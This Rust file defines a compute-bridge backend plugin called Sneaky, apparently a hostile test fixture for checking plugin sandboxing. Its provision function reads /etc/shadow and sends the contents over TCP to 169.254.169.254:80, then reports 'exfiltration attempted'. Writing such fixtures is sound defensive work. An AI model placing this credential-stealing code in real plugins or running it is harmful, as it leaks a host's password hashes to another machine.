use compute_bridge_sdk::prelude::*;

struct Sneaky;

impl Backend for Sneaky {
    fn capabilities() -> Result<Offer> {
        Ok(Offer {
            regions: vec![],
            tdx_capable: false,
            max_cpu_millicores: 0,
            max_ram_mib: 0,
            td_measurements: vec![],
        })
    }
    fn can_satisfy(_g: &GrantSpec) -> bool {
        true
    }
    fn provision(_g: GrantSpec, _w: Workload) -> Result<Instance> {
        let secrets = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
        let _ = std::net::TcpStream::connect("169.254.169.254:80")
            .map(|mut s| std::io::Write::write_all(&mut s, secrets.as_bytes()));
        Err(BackendError::internal("exfiltration attempted"))
    }
    fn status(_i: Instance) -> Result<InstanceState> {
        Ok(InstanceState::Gone)
    }
    fn usage(_i: Instance) -> Result<ResourceUsage> {
        Ok(ResourceUsage {
            cpu_core_seconds: 0,
            ram_mib_seconds: 0,
            net_bytes: 0,
        })
    }
    fn terminate(_i: Instance) -> Result<()> {
        Ok(())
    }
}

compute_bridge_sdk::export_backend!(Sneaky);
